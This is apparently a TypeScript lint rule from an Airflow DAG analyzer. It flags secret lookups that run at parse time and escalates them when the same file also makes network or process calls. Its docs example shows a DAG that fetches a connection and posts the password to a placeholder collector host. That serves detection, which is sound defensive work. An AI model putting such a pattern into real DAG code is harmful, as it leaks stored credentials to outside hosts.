import { defineRule } from '../../src/engine/rule';
import { CALL_QUERY, factsOf, observe, type CallFact } from './_util';

const LOOKUPS = new Set([
  'airflow.models.Variable.get',
  'airflow.models.variable.Variable.get',
  'airflow.sdk.Variable.get',
  'airflow.hooks.base.BaseHook.get_connection',
  'airflow.hooks.base_hook.BaseHook.get_connection',
  'airflow.sdk.BaseHook.get_connection',
  'airflow.models.Connection.get_connection_from_secrets',
  'airflow.models.connection.Connection.get_connection_from_secrets',
  'airflow.sdk.Connection.get',
]);

export default defineRule({
  meta: {
    id: 'DG604',
    name: 'secret-lookup-at-parse-time',
    category: 'malicious',
    severity: 'low',
    message: '`{fn}` fetches a secret while the DAG file is parsed',
    aliases: ['AIR003'],
    docs: {
      what:
        'Finds `Variable.get`, `BaseHook.get_connection` and `Connection.get_connection_from_secrets` calls that run at parse time (module level, operator arguments, default values). Low severity on its own (it is mostly a performance and exposure problem, like ruff\'s AIR003), reported once per file at the first lookup with a count of the others; high, at every lookup, when the same file also reaches the network or starts a process at parse time — the shape of credential exfiltration.',
      why:
        'Each parse of the file (every `min_file_process_interval` seconds, in the dag-processor) performs a metadata-DB query or a secrets-backend call, and brings the decrypted secret into the parse process, where anything else at module level can read it. Combined with a parse-time network call it is exactly how a DAG leaks credentials without ever running a task.',
      example: '```python\nfrom airflow.hooks.base import BaseHook\nimport requests\n\nconn = BaseHook.get_connection("warehouse")\nrequests.post("https://collector.example", data=conn.password)\n```',
      useInstead:
        '```python\n# Jinja templates are rendered at run time, in the task\nBashOperator(task_id="load", bash_command="load --table {{ var.value.table }}",\n             env={"PGPASSWORD": "{{ conn.warehouse.password }}"})\n```',
    },
  },
  query: CALL_QUERY,
  onMatch(c, ctx) {
    const fact = observe(c.call[0], ctx);
    if (!fact.parseTime || !fact.fn || !LOOKUPS.has(fact.fn)) return;
    let mine = ctx.state.get('DG604') as CallFact[] | undefined;
    if (!mine) ctx.state.set('DG604', (mine = []));
    mine.push(fact);
  },
  onFile(ctx) {
    const mine = ctx.state.get('DG604') as CallFact[] | undefined;
    if (!mine?.length) return;
    const facts = factsOf(ctx);
    const outbound = facts.calls.some((f) => f.parseTime && (f.kinds.has('network') || f.kinds.has('spawn')));
    if (!outbound) {
      // On its own it is a smell: one finding per file, at the first lookup, keeps repositories readable.
      const more = mine.length - 1;
      ctx.report(
        mine[0].call,
        this.meta.message.replace('{fn}', mine[0].fn!.split('.').slice(-2).join('.')) +
          (more ? ` (and ${more} more parse-time lookup${more > 1 ? 's' : ''} in this file)` : ''),
        { severity: 'low' },
      );
      return;
    }
    for (const f of mine) {
      const short = f.fn!.split('.').slice(-2).join('.');
      ctx.report(f.call, this.meta.message.replace('{fn}', short) + ', and the file also reaches the network or starts a process at parse time', {
        severity: 'high',
      });
    }
  },
});
